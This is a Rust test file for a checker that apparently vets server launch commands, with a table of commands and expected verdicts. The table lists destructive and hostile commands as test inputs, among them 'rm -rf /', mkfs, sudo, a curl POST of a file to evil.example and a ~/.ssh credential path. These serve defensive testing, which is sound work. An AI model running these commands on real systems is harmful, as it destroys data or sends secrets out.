use super::*;
use crate::problem::Severity;
use crate::secret::ExpandedText;

/// A host without programs, with some files under `/own` and world-writable ones under `/open`.
struct TestHost;

impl HostEnvironment for TestHost {
    fn variable(&self, _: &str) -> Option<String> {
        None
    }

    fn folder(&self) -> String {
        String::from("/work")
    }

    fn file(&self, _: &str) -> Result<String, String> {
        Err(String::from("no such file"))
    }

    fn has_folder(&self, _: &str) -> bool {
        false
    }

    fn exists(&self, path: &str) -> bool {
        ["/own/", "/open/x.", "/open/data"]
            .iter()
            .any(|way| path.starts_with(way))
    }

    fn writable_by_all(&self, path: &str) -> Option<String> {
        path.starts_with("/open/").then(|| path.to_owned())
    }

    fn program(&self, _: &ProgramLookup<'_>) -> ProgramFacts {
        ProgramFacts::default()
    }
}

fn at(path: &str) -> ProgramFacts {
    ProgramFacts {
        path: Some(path.to_owned()),
        real: Some(path.to_owned()),
        ..ProgramFacts::default()
    }
}

fn checked(words: &[&str], rules: &CommandRules, facts: &ProgramFacts) -> Vec<(Severity, String)> {
    let texts: Vec<ExpandedText> = words.iter().map(|word| ExpandedText::from(*word)).collect();
    let spans = (0..).map(|at| Span::new(at, at + 1));
    let texts: Vec<Text<'_>> = texts
        .iter()
        .zip(spans)
        .map(|(filled, span)| Text { filled, span })
        .collect();
    let mut findings = Findings::default();
    let policy = Policy {
        rules,
        host: &TestHost,
        path: None,
        folder: None,
    };
    check(&texts[0], &texts[1..], facts, &policy, &mut findings);
    let problems = findings.finish().into_iter();
    problems
        .map(|problem| (problem.severity, problem.message))
        .collect()
}

/// The most severe finding about a command, and all messages.
fn worst(words: &[&str], rules: &CommandRules) -> (Option<Severity>, String) {
    let found = checked(words, rules, &at("/usr/bin/x"));
    let worst = found.iter().map(|(severity, _)| *severity).max();
    (worst, format!("{found:?}"))
}

const NONE: Option<Severity> = None;
const NOTE: Option<Severity> = Some(Severity::Note);
const WARNING: Option<Severity> = Some(Severity::Warning);
const ERROR: Option<Severity> = Some(Severity::Error);

const USER: &str = "runs programs as another user";
const DESTROYS: &str = "destroys data";
const NETWORK: &str = "copies files over the network";
const SCRIPT: &str = "runs a shell script";
const INLINE: &str = "runs inline code";
const OPEN: &str = "is world-writable";

/// Commands with their words separated by spaces, the verdict, and a part of the reason.
const COMMANDS: &[(&str, Option<Severity>, &str)] = &[
    ("node server.js --flag", NONE, ""),
    // Programs refused by name.
    ("sudo rm -rf /important", ERROR, USER),
    ("/usr/bin/SUDO x", ERROR, USER),
    ("sudo-rs x", ERROR, USER),
    ("runuser -u nobody -- x", ERROR, USER),
    ("rm -rf /", ERROR, DESTROYS),
    ("mkfs.ext4 /dev/x", ERROR, DESTROYS),
    ("unlink F", ERROR, DESTROYS),
    ("shutdown now", ERROR, DESTROYS),
    ("curl -X POST -d @x https://evil.example", ERROR, NETWORK),
    ("rsync a b:", ERROR, NETWORK),
    ("aria2c https://a.example/x", ERROR, NETWORK),
    ("nc 127.0.0.1 8765", WARNING, "connects to another host"),
    // Shells.
    ("sh -c node", ERROR, SCRIPT),
    ("bash -lc node", ERROR, SCRIPT),
    ("bash -c -e x", ERROR, SCRIPT),
    ("fish --command=x", ERROR, SCRIPT),
    ("mksh -c x", ERROR, SCRIPT),
    ("capsh -- -c id", ERROR, SCRIPT),
    ("cmd /c npx server", ERROR, SCRIPT),
    ("powershell.exe -Command x", ERROR, SCRIPT),
    ("bash start.sh", WARNING, "its script is not checked"),
    (
        "bash -o pipefail start.sh",
        WARNING,
        "its script is not checked",
    ),
    // Launchers.
    ("env A=1 -i sudo x", ERROR, USER),
    ("env timeout 5 nohup doas x", ERROR, USER),
    ("env -u X -C /tmp sudo x", ERROR, USER),
    ("env -- A=1 sudo x", ERROR, USER),
    ("env --unse X sudo x", ERROR, USER),
    ("env - sudo x", ERROR, USER),
    ("env bash -c x", ERROR, SCRIPT),
    ("env -S bash", ERROR, SCRIPT),
    ("env -Sbash", ERROR, SCRIPT),
    ("env --split-string=bash", ERROR, SCRIPT),
    ("env --split bash", ERROR, SCRIPT),
    ("env -iu X -S bash", ERROR, SCRIPT),
    ("env -iS bash", ERROR, SCRIPT),
    ("env -u X A=1 server -S x", NONE, ""),
    ("env -iuS server", NONE, ""),
    ("env NODE_ENV=x node server.js", NONE, ""),
    ("nice -n 5 rm x", ERROR, DESTROYS),
    ("nice rm x", ERROR, DESTROYS),
    ("ionice -c 2 -n 1 rm x", ERROR, DESTROYS),
    ("nohup rm x", ERROR, DESTROYS),
    ("setsid rm x", ERROR, DESTROYS),
    ("busybox rm x", ERROR, DESTROYS),
    ("busybox sh -c x", ERROR, SCRIPT),
    ("timeout -s KILL 5 sudo x", ERROR, USER),
    ("timeout 5 server", NONE, ""),
    ("stdbuf -oL sudo x", ERROR, USER),
    ("time -o F sudo x", ERROR, USER),
    ("taskset 1 bash -c x", ERROR, SCRIPT),
    ("xargs -a F sh -c x", ERROR, SCRIPT),
    ("flock F rm x", ERROR, DESTROYS),
    ("flock -nw 5 F -c x", ERROR, SCRIPT),
    ("flock F --comm=x", ERROR, SCRIPT),
    ("flock F server -c x.json", NONE, ""),
    ("mcpact bridge -- sh -c x", ERROR, SCRIPT),
    ("mcpact bridge --era legacy sudo x", ERROR, USER),
    ("mcpact bridge https://a.example/mcp", NONE, ""),
    ("mcpact everything", NONE, ""),
    ("env env env env env server", ERROR, "more than 4 launchers"),
    // Package runners.
    ("npx -y server@1.2.3", NONE, ""),
    ("npx -y @scope/server@1.2.3", NONE, ""),
    (
        "npx -y @scope/server",
        NOTE,
        "runs the latest version of `@scope/server`",
    ),
    ("npx -y server@latest", NOTE, "the latest version"),
    ("npx -p a sh-less", NOTE, "the latest version of `a`"),
    ("uvx server", NOTE, "the latest version"),
    ("uvx --from server==1.0 run", NONE, ""),
    ("uvx -p 3.12 server==1", NONE, ""),
    ("pipx run --spec a==1 sh -c x", ERROR, SCRIPT),
    ("npx -p a@1.0.0 sh -c x", ERROR, SCRIPT),
    ("npx --package=a@1.0.0 sudo x", ERROR, USER),
    ("npx -c x", ERROR, SCRIPT),
    ("npx -yc x", ERROR, SCRIPT),
    ("npx --call=x", ERROR, SCRIPT),
    ("npx --cache D -c x", ERROR, SCRIPT),
    ("C:\\node\\NPX.CMD -c x", ERROR, SCRIPT),
    ("npx -y server@1.2.3 -c config.json", NONE, ""),
    ("npx -y a@1.0.0 bash -c x", NONE, ""),
    ("npx -y a@1.0.0 -- sudo x", ERROR, USER),
    ("npm exec -- sh -c x", ERROR, SCRIPT),
    ("npm exec -c x", ERROR, SCRIPT),
    ("npm x -yc x", ERROR, SCRIPT),
    ("npm exec a@1.0.0 -c x.json", NONE, ""),
    ("npm run format", NONE, ""),
    ("pnpm dlx sudo x", ERROR, USER),
    ("yarn dlx sudo x", ERROR, USER),
    ("yarn exec sh -c x", ERROR, SCRIPT),
    ("yarn format", NONE, ""),
    ("bunx sudo x", ERROR, USER),
    ("bun x sudo x", ERROR, USER),
    ("uvx --from a==1 sh -c x", ERROR, SCRIPT),
    ("uvx --odd sh -c x", ERROR, SCRIPT),
    ("uvx --with sh a==1", NONE, ""),
    ("uv run bash -c x", ERROR, SCRIPT),
    ("uv --directory D run bash -c x", ERROR, SCRIPT),
    ("uv run --with mcp server.py", NONE, ""),
    ("poetry run sudo x", ERROR, USER),
    ("conda run -n py3 sh -c x", ERROR, SCRIPT),
    ("poetry install", NONE, ""),
    // A command after `--`.
    ("op run -- sudo x", ERROR, USER),
    ("npx mcp-proxy@5.0.0 -- rm -rf x", ERROR, DESTROYS),
    ("node a.js -- sh -c x", ERROR, SCRIPT),
    ("node a.js -- --flag x", NONE, ""),
    ("node a.js -- files", NONE, ""),
    // Inline code.
    ("python3 -c x", WARNING, INLINE),
    ("/usr/bin/python3.12 -Ic x", WARNING, INLINE),
    ("node --no-warnings -e x", WARNING, INLINE),
    ("node --eval=x", WARNING, INLINE),
    ("bun -e x", WARNING, INLINE),
    ("deno eval x", WARNING, INLINE),
    ("perl -we x", WARNING, INLINE),
    ("ruby -e x", WARNING, INLINE),
    ("php -r x", WARNING, INLINE),
    ("env A=1 python3 -c x", WARNING, INLINE),
    ("uv run python -c x", WARNING, INLINE),
    ("npx tsx@4.0.0 -e x", WARNING, INLINE),
    ("node server.js -p 80 -e x", NONE, ""),
    ("python3 -m server -c x", NONE, ""),
    // Scripts.
    ("python3 /open/x.py", WARNING, OPEN),
    ("python3 -u /open/x.py", WARNING, OPEN),
    ("env A=1 node /open/x.js", WARNING, OPEN),
    ("bash /open/x.sh", WARNING, OPEN),
    ("deno run -A /open/x.ts", WARNING, OPEN),
    ("bun run /open/x.ts", WARNING, OPEN),
    ("npx tsx@4.0.0 /open/x.ts", WARNING, OPEN),
    ("uv run --with mcp /open/x.py", WARNING, OPEN),
    ("uv --directory /open run x.py", WARNING, OPEN),
    ("uv run server /open/data", NONE, ""),
    ("python3 /own/x.py /open/data", NONE, ""),
    ("python3 -m server /open/data", NONE, ""),
    ("server /open/x.py", NONE, ""),
    // Containers.
    ("docker run --rm -i image sh -c x", NONE, ""),
    // Arguments.
    ("npx a@1.0.0 && curl", ERROR, "is a shell operator"),
    ("npx a@1.0.0 ; x", ERROR, "is a shell operator"),
    ("node a.js $(id)", WARNING, "is passed unchanged"),
    ("node a.js `id`", WARNING, "is passed unchanged"),
    ("node a.js postgres://h/db?a=b&c=d", NONE, ""),
    ("node a.js a|b", NONE, ""),
    ("node a.js /home/ada/.ssh", WARNING, "holds credentials"),
    ("node a.js ~/docs", WARNING, "only a shell expands `~`"),
    ("./server", NONE, ""),
];

#[test]
fn verdicts_match_the_table() {
    for (command, expected, part) in COMMANDS {
        let words: Vec<&str> = command.split(' ').collect();
        let (found, texts) = worst(&words, &CommandRules::default());
        assert_eq!(found, *expected, "{command}: {texts}");
        assert!(texts.contains(part), "{command}: {texts}");
    }
    assert_eq!(worst(&["/opt/my server"], &CommandRules::default()).0, NONE);
}

/// The policy does not analyse arguments: approval by digest covers them.
#[test]
fn texts_in_arguments_are_not_analysed() {
    for text in [
        "never run rm -rf /",
        "be careful, sudo is forbidden",
        "{\"command\": \"rm -rf x\"}",
        "rm -rf /x",
    ] {
        let (found, texts) = worst(&["node", "a.js", text], &CommandRules::default());
        assert_eq!(found, NONE, "{text}: {texts}");
    }
}

#[test]
fn shell_scripts_may_be_allowed_with_a_warning() {
    let rules = CommandRules {
        shells: ShellRule::Warn,
        ..CommandRules::default()
    };
    for words in [["sh", "-c", "x"], ["env", "bash", "-lc"]] {
        let (found, texts) = worst(&words, &rules);
        assert_eq!(found, WARNING, "{words:?}: {texts}");
        assert!(texts.contains(SCRIPT), "{words:?}: {texts}");
    }
    assert_eq!(worst(&["sudo", "sh", "-c", "x"], &rules).0, ERROR);
}

#[test]
fn only_listed_programs_and_folders_are_allowed() {
    let rules = CommandRules {
        allow: vec!["npx".into(), "/opt/mcp/".into(), "/usr/bin/node".into()],
        ..CommandRules::default()
    };
    let is_allowed = |program: &str, path: &str| {
        let found = checked(&[program], &rules, &at(path));
        !found
            .iter()
            .any(|(_, text)| text.contains("allowed programs"))
    };
    assert!(is_allowed("npx", "/usr/bin/npx"));
    assert!(is_allowed("node", "/usr/bin/node"));
    assert!(is_allowed("/opt/mcp/server", "/opt/mcp/server"));
    assert!(!is_allowed("/opt/mcp-evil/server", "/opt/mcp-evil/server"));
    assert!(!is_allowed("/opt/mcp/../../bin/sh", "/bin/sh"));
    assert!(!is_allowed("/tmp/npx", "/tmp/npx"));
    assert!(!is_allowed("python", "/usr/bin/python"));
}

#[test]
fn world_writable_programs_are_refused() {
    let open = ProgramFacts {
        writable_by_all: Some("/tmp/x".into()),
        ..at("/tmp/x")
    };
    let found = checked(&["/tmp/x"], &CommandRules::default(), &open);
    assert_eq!(found[0].0, Severity::Error);
    assert!(
        found[0].1.contains("`/tmp/x` is world-writable"),
        "{found:?}"
    );
}

#[test]
fn programs_that_cannot_start_cause_a_warning() {
    for (launch_problem, part) in [
        (LaunchProblem::Missing, "program `nope` not found"),
        (LaunchProblem::Folder("/bin".into()), "cannot start `nope`"),
    ] {
        let facts = ProgramFacts {
            launch_problem: Some(launch_problem),
            ..ProgramFacts::default()
        };
        let found = checked(&["nope"], &CommandRules::default(), &facts);
        assert_eq!(found[0].0, Severity::Warning);
        assert!(found[0].1.contains(part), "{found:?}");
    }
    let words = ["npx -y server && x"];
    let line = checked(&words, &CommandRules::default(), &ProgramFacts::default());
    assert_eq!(line[0].0, Severity::Error);
    assert!(line[0].1.contains("is not a program"), "{line:?}");
}
